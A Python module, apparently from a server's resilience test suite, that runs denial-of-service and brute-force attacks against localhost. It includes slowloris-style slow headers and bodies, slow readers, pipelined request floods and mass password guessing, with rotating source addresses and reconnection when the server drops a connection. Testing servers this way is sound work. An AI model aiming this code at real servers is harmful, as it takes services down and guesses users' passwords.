"""What one who wishes harm does with connections. Each attack is a generator in a process of its own: it yields when it is
in full swing and then at every step until it is closed."""
import contextlib
import itertools
import multiprocessing
import os
import resource
import select
import socket
import time

HOST = "Host: localhost\r\n"


def addresses(first: int):
    """Source addresses of this machine, in turn: 127.0.FIRST.1 to .200."""
    return itertools.cycle(f"127.0.{first}.{last}" for last in range(1, 201))


def opened(port: int, source: str, buffer: int = 0) -> socket.socket:
    made = socket.socket()
    if buffer:
        made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
    made.setsockopt(socket.IPPROTO_IP, getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24), 1)
    made.bind((source, 0))
    made.settimeout(20)
    made.connect(("127.0.0.1", port))
    made.setblocking(False)
    return made


def send(connection: socket.socket, text: bytes) -> bool:
    """False once the server has let go of the connection."""
    try:
        connection.send(text)
        return True
    except BlockingIOError:
        return True
    except OSError:
        return False


def trickle(port: int, house, first: int, count: int, begin, more: bytes, buffer: int = 0, pause: float = 1.0):
    """Opens `count` connections that begin as `begin(number)` says and then send `more` now and then; who is let go
    comes again."""
    sources, held = addresses(first), []
    for number in range(count):
        with contextlib.suppress(OSError):
            held.append(opened(port, next(sources), buffer))
            send(held[-1], begin(number))
    while True:
        yield
        end = time.monotonic() + pause
        for at, connection in enumerate(held):
            if more and not send(connection, more):
                connection.close()
                with contextlib.suppress(OSError):
                    held[at] = opened(port, next(sources), buffer)
                    send(held[at], begin(at))
            if at % 200 == 0:
                time.sleep(0.002)
        time.sleep(max(0.0, end - time.monotonic()))


def idle(port, house, first):
    return trickle(port, house, first, 9_900, lambda _: b"", b"")


def slow_heads(port, house, first):
    return trickle(port, house, first, 4_000, lambda _: f"GET {house.public} HTTP/1.1\r\n{HOST}X-Long: {'a' * 8000}".encode(), b"a")


def slow_bodies(port, house, first):
    head = f"POST /sign-in HTTP/1.1\r\n{HOST}Content-Type: application/json\r\n"
    kinds = [f"{head}Content-Length: 60000\r\n\r\n{{", f"{head}Transfer-Encoding: chunked\r\n\r\n1\r\n{{\r\n", f"{head}Content-Length: 9000\r\n\r\n{{"]
    return trickle(port, house, first, 1_500, lambda number: kinds[number % 3].encode(), b" ")


def slow_readers(port, house, first):
    asked = f"GET {house.public} HTTP/1.1\r\n{HOST}\r\n".encode() * 40
    return trickle(port, house, first, 1_500, lambda _: asked, b"", 2048)


def pipelining(port, house, first):
    """Asks without end, and reads what comes."""
    asked = f"GET {house.public} HTTP/1.1\r\n{HOST}\r\n".encode() * 30
    sources = addresses(first)
    held = [opened(port, next(sources)) for _ in range(8)]
    while True:
        yield
        readable, writable, _ = select.select(held, held, [], 0.5)
        for connection in readable:
            with contextlib.suppress(OSError):
                connection.recv(1 << 20)
        for connection in writable:
            send(connection, asked)
        time.sleep(0.002)


def guesses(port, house, first):
    """A thousand guesses of passwords a second, each name and each address now and then."""
    sources, number = addresses(first), itertools.count()
    waiting = []
    while True:
        yield
        end = time.monotonic() + 0.1
        for _ in range(50):
            name = f"guess{next(number) % 5000}"
            body = f"name={name}&password=not-this-one-{next(number)}"
            with contextlib.suppress(OSError):
                connection = opened(port, next(sources))
                send(connection, f"POST /sign-in HTTP/1.1\r\n{HOST}Connection: close\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                                 f"Content-Length: {len(body)}\r\n\r\n{body}".encode())
                waiting.append(connection)
        while len(waiting) > 2000:
            waiting.pop(0).close()
        time.sleep(max(0.0, end - time.monotonic()))


ALL = {"idle": idle, "slow_heads": slow_heads, "slow_bodies": slow_bodies, "slow_readers": slow_readers,
       "pipelining": pipelining, "guesses": guesses}


def run(name, house, first, swinging, over) -> None:
    os.nice(15)  # an attacker has processors of their own and takes none of the server's
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    for _ in ALL[name](house.port, house, first):
        swinging.set()
        if over.is_set():
            return


class Attack:
    """An attack by two processes, from entering to leaving."""

    def __init__(self, name: str, house):
        self.over = multiprocessing.Event()
        self.swinging = [multiprocessing.Event() for _ in range(2)]
        self.processes = [multiprocessing.Process(target=run, args=(name, house, 10 + at, swinging, self.over), daemon=True)
                          for at, swinging in enumerate(self.swinging)]

    def __enter__(self):
        for process in self.processes:
            process.start()
        for swinging in self.swinging:
            if not swinging.wait(120):
                raise SystemExit("the attack does not come about")
        return self

    def __exit__(self, *_):
        self.over.set()
        for process in self.processes:
            process.join(60)
